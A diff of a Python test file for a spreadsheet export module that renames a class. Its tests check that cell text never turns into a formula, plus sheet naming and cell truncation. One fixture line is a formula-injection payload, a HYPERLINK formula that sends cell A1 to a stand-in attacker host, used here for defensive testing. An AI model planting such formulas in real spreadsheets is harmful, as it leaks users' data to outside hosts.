@@ -10,7 +10,7 @@ import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 
-from nastavnik.bank.review.spreadsheets import Sheet, harmless, replacing, write_csv, write_xlsx
+from nastavnik.bank.review.spreadsheets import Worksheet, harmless, replacing, write_csv, write_xlsx
 
 NASTY = [
     '=HYPERLINK("http://evil.example/"&A1;"нажми")',
@@ -31,7 +31,7 @@ DAY = dt.date(2026, 11, 20)
 
 @pytest.mark.parametrize("nasty", NASTY)
 def test_text_never_becomes_a_formula(nasty: str, tmp_path: Path) -> None:
-    table = Sheet("Практики", [nasty], [[nasty, 5, DAY, None]])
+    table = Worksheet("Практики", [nasty], [[nasty, 5, DAY, None]])
 
     write_xlsx(tmp_path / "t.xlsx", [table])
     write_csv(tmp_path / "t.csv", table)
@@ -59,14 +59,16 @@ def test_harmless_text_is_the_text(text: str) -> None:
 
 @pytest.mark.parametrize("text", ["Два урока вместе", "5 – 7 классы", "«Ключ»", "a=b", "1-2"])
 def test_plain_text_stays(text: str, tmp_path: Path) -> None:
-    write_xlsx(tmp_path / "t.xlsx", [Sheet("Т", ["Название"], [[text]])])
+    write_xlsx(tmp_path / "t.xlsx", [Worksheet("Т", ["Название"], [[text]])])
 
     assert openpyxl.load_workbook(tmp_path / "t.xlsx").active["A2"].value == text
     assert harmless(text) == text
 
 
 def test_several_sheets_with_filters(tmp_path: Path) -> None:
-    write_xlsx(tmp_path / "t.xlsx", [Sheet("Новые: [все]/*", ["А", "Б"], [["1", 2]]), Sheet("Пусто", ["А"], [])])
+    write_xlsx(
+        tmp_path / "t.xlsx", [Worksheet("Новые: [все]/*", ["А", "Б"], [["1", 2]]), Worksheet("Пусто", ["А"], [])]
+    )
 
     book = openpyxl.load_workbook(tmp_path / "t.xlsx")
     assert [(sheet.title, sheet.auto_filter.ref, sheet.freeze_panes) for sheet in book] == [
@@ -76,7 +78,7 @@ def test_several_sheets_with_filters(tmp_path: Path) -> None:
 
 
 def test_cell_longer_than_excel_takes(tmp_path: Path) -> None:
-    write_xlsx(tmp_path / "t.xlsx", [Sheet("Т", ["А"], [["я" * 40_000], ["=" * 40_000]])])
+    write_xlsx(tmp_path / "t.xlsx", [Worksheet("Т", ["А"], [["я" * 40_000], ["=" * 40_000]])])
 
     assert [len(row[0].value) for row in openpyxl.load_workbook(tmp_path / "t.xlsx").active.iter_rows(2)] == [
         32_767
